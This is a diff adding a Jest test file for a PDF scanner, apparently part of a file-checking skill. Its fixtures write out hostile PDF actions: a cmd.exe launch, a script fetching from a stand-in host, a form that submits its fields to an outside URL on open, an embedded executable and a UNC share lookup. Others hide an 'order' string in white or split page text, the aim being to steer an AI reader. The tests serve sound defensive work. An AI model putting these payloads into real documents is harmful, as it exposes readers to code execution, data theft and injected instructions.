@@ -1,0 +1,99 @@
+import { deflateSync } from 'node:zlib';
+
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+
+import { pdfContents } from '../../../src/skills/files/pdf/pdf-actions.js';
+import { readPdf } from '../../../src/skills/files/pdf/pdf-streams.js';
+import { shownWords, stringAt } from '../../../src/skills/files/pdf/pdf-strings.js';
+import { judged, ORDER } from './inner-files.js';
+
+function pdf(...objects: readonly (string | Buffer)[]): Uint8Array {
+  const parts = objects.flatMap((body, index) => [
+    Buffer.from(`${String(index + 1)} 0 obj\n`),
+    Buffer.from(body),
+    Buffer.from('\nendobj\n'),
+  ]);
+  return new Uint8Array(Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\0\n', 'latin1'), ...parts, Buffer.from('trailer\n%%EOF\n')]));
+}
+
+function stream(data: string | Uint8Array, dictionary = ''): Buffer {
+  const packed = deflateSync(data);
+  return Buffer.concat([
+    Buffer.from(`<< /Filter /FlateDecode ${dictionary} /Length ${String(packed.length)} >>\nstream\n`),
+    packed,
+    Buffer.from('\nendstream'),
+  ]);
+}
+
+const verdictOf = (...objects: readonly (string | Buffer)[]): string => judged('assets/form.pdf', pdf(...objects)).verdict;
+
+describe('a PDF', () => {
+  it.each([
+    ['starts a program', '<< /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>'],
+    ['starts a program out of an object stream', stream('5 0 << /OpenAction << /S /Launch /F (cmd.exe) >> >>', '/Type /ObjStm')],
+    ['runs a script that fetches', '<< /OpenAction << /S /JavaScript /JS (app.launchURL\\("https://cdn.inner-files.net/a", true\\)) >> >>'],
+    [
+      'runs a script out of an object stream',
+      stream('5 0 << /OpenAction << /S /JavaScript /JS (this.exportDataObject\\({nLaunch:2}\\)) >> >>', '/Type /ObjStm'),
+    ],
+    ['holds a program', stream(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(3000)]), '/Type /EmbeddedFile')],
+    ['gives orders on its pages', stream(`BT 1 1 1 rg (${ORDER}) Tj ET`)],
+    ['gives orders in pieces', stream(`BT [(${ORDER.slice(0, 20)})-20(${ORDER.slice(20, 60)})12(${ORDER.slice(60)})] TJ ET`)],
+    ['gives orders in hexadecimal strings', stream(`BT <${Buffer.from(ORDER).toString('hex')}> Tj ET`)],
+    ['gives orders in a note', `<< /Type /Annot /Contents (${ORDER}) >>`],
+    ['gives orders in its title', `<< /Title (${ORDER}) >>`],
+  ])('fails when it %s', (_, object) => {
+    expect(verdictOf('<< /Type /Catalog >>', object)).toBe('FAIL');
+  });
+
+  it.each([
+    ['writes the names of its actions with numbers', '<< /Open#41ction << /S /#4a#61vaScript /#4a#53 (app.alert\\(1\\)) >> >>'],
+    [
+      'sends its fields away when it is opened',
+      '<< /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://in.inner-files.net/f) >> >> >>',
+    ],
+    ['reaches for a share', '<< /AA << /O << /S /GoToE /F (\\\\\\\\203.7.32.99\\\\s\\\\x.pdf) >> >> >>'],
+  ])('warns when it %s', (_, object) => {
+    expect(verdictOf(object)).toBe('WARN');
+  });
+
+  it.each([
+    ['opens at its first page', '<< /Type /Catalog /OpenAction [3 0 R /Fit] >>'],
+    ['links to a site', '<< /A << /S /URI /URI (https://www.contoso.com) >> >>'],
+    ['formats and sums its fields', '<< /AA << /C << /S /JavaScript /JS (AFSimple_Calculate\\("SUM", new Array\\("a"\\)\\);) >> >> >>'],
+    ['carries an invoice in XML', stream('<Invoice/>', '/Type /EmbeddedFile')],
+    ['tells people what to do', stream('BT (Read the handbook, sign the form and send it to the office.) Tj ET')],
+  ])('passes when it %s', (_, object) => {
+    expect(verdictOf('<< /Type /Catalog >>', object)).toBe('PASS');
+  });
+});
+
+describe('reading a PDF', () => {
+  it('stops unpacking at its bound', () => {
+    const { streams } = readPdf(pdf(stream(Buffer.alloc(40 * 1024 * 1024))));
+    expect(streams.map(({ data }) => data.length)).toEqual([0]);
+  });
+
+  it('knows escapes, nested parentheses and UTF-16 in strings', () => {
+    expect(stringAt('(a\\(b\\)(c)\\101)', 0)).toEqual({ value: 'a(b)(c)A', end: 15 });
+    expect(stringAt('<FEFF00480069>', 0)?.value).toBe('Hi');
+    expect(stringAt('<< /A 1 >>', 0)).toBeUndefined();
+  });
+
+  it('joins what a line shows in pieces and keeps wide gaps', () => {
+    expect(shownWords('[(one)-20(two)-600(three)] TJ')).toBe('onetwo three');
+  });
+
+  it('never fails, whatever the bytes', () => {
+    const noise = fc.string({
+      unit: fc.constantFrom('(', ')', '<', '>', '[', ']', '\\', 'stream\n', 'endstream', ' obj', '1 0', '/JS', '/S /Launch', 'a'),
+      maxLength: 300,
+    });
+    fc.assert(
+      fc.property(noise, (text) => {
+        expect(Array.isArray(pdfContents(Buffer.from(`%PDF-1.4\n${text}`)).texts)).toBe(true);
+      }),
+    );
+  });
+});
